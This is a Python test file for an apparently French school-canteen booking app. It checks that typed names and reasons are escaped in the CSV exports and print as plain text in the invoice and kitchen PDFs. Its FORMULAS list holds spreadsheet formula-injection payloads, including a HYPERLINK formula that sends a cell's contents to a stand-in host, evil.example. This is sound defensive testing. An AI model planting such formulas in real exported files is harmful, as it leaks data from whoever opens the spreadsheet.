"""What people type never becomes a formula in our CSV files nor markup in our PDFs: the audit
CSV, the kitchen's CSV and PDF, the invoice PDF, with the payloads of issue 13."""

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from pypdf import PdfReader

from lib.services import invoicing, kitchen, reservations, trail
from tests.conftest import DEMO_NOW, DEMO_TODAY

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1;"Cliquez")', "+1+1", "-2+3", "@SUM(1;2)", "\t=1+1", "\r=1+1"]
MARKUP = "<b>O'Brien & <Fils>"


def cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


def pdf_text(body: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(body)).pages)


@pytest.mark.parametrize("reason", FORMULAS)
def test_an_agents_reason_is_text_in_the_audit_csv(town, reason):
    agent, admin = town.login(town.agent), town.login(town.admin)
    _, year = reservations.school_years(town.db, DEMO_TODAY)
    alice = reservations.booking_context(town.db, agent, town.child_a, year.id)
    reservations.set_day(
        town.db, agent, alice, alice.services[0].id, date(2026, 11, 30), False, DEMO_NOW, late=True, reason=reason
    )
    rows = cells(trail.journal_csv(town.db, admin))
    assert rows[0] == trail.CSV_HEADERS
    [written] = [row[4] for row in rows[1:] if row[2].startswith("A annulé")]  # not the training day declared
    assert written.startswith("'") and written[1:] in (reason, reason.strip())


def test_site_and_diet_names_are_text_in_the_kitchen_csv_and_counts_stay_numbers(town):
    def rename(cur):
        for site_id, name in zip((town.school, town.wednesday_centre), FORMULAS[:2]):
            cur.execute("UPDATE sites SET name = ? WHERE id = ?", [name, site_id])
        for code, name in zip(("standard", "sans_porc"), FORMULAS[3:]):
            cur.execute("UPDATE diets SET label = ? WHERE code = ?", [name, code])

    town.db.write(rename)
    cook = town.login(town.cook)
    rows = cells(kitchen.sheet_file(town.db, cook, date(2026, 11, 30), DEMO_NOW, "csv", count_as_printed=False))
    body = [row for row in rows[1:] if row and row[1] != "TOTAL" and row[0] != "Statut"]
    assert body and {row[1][1:] for row in body} <= set(FORMULAS)
    assert {row[3][1:] for row in body if row[3] != "PAI panier-repas"} <= set(FORMULAS)
    assert all(row[1].startswith("'") and re.fullmatch(r"\d+", row[4]) for row in body)


def test_every_csv_file_is_written_by_the_one_function():
    """No csv writer or DataFrame.to_csv besides lib/domain/spreadsheet.py: a new export cannot forget the rule.
    The families' import (lib/domain/family_import.py) imports csv to read a town's file, never to write."""
    sources = list((ROOT / "lib").rglob("*.py")) + list((ROOT / "pages").glob("*.py")) + [ROOT / "app.py"]
    writes = re.compile(r"\bcsv\.(writer|DictWriter)\(|\.to_csv\(|\bfrom csv import\b")
    offenders = [
        str(p.relative_to(ROOT))
        for p in sources
        if p.name != "spreadsheet.py"
        and (
            writes.search(p.read_text())
            or (p.name != "family_import.py" and re.search(r"^import csv\b", p.read_text(), re.M))
        )
    ]
    assert offenders == []


def test_a_family_named_with_markup_gets_a_readable_invoice_pdf(town):
    def work(cur):
        cur.execute(
            "UPDATE families SET name = ?, address = ? WHERE id = ?",
            [MARKUP, "12 <rue> des Lilas & Cie", town.family_a],
        )
        # The debtor printed is the family's guardian 1 (the family's address stands for his).
        cur.execute("UPDATE guardians SET last_name = ? WHERE family_id = ? AND rank = 1", [MARKUP, town.family_a])

    town.db.write(work)
    parent = town.login(town.parent_a)
    invoice = invoicing.family_invoices(town.db, parent, DEMO_NOW)[0]
    body = invoicing.invoice_pdf(town.db, parent, invoice.id, DEMO_NOW)
    text = pdf_text(body)
    assert MARKUP in text and "12 <rue> des Lilas & Cie" in text and invoice.number in text


def test_markup_in_site_service_and_diet_names_prints_as_typed_on_the_kitchen_sheet(town):
    town.db.write(
        lambda cur: (
            cur.execute("UPDATE sites SET name = ? WHERE id = ?", [MARKUP, town.wednesday_centre]),
            cur.execute("UPDATE diets SET label = 'Sans <porc> & co' WHERE code = 'sans_porc'"),
            cur.execute("UPDATE settings SET value = 'Belcastel <i>' WHERE key = 'town_name'"),
        )
    )
    cook = town.login(town.cook)
    wednesday = date(2026, 12, 2)  # Basile, sans porc, eats at the Wednesday centre
    text = pdf_text(kitchen.sheet_file(town.db, cook, wednesday, DEMO_NOW, "pdf", count_as_printed=False))
    assert MARKUP in text and "Sans <porc> & co" in text and "Belcastel <i>" in text
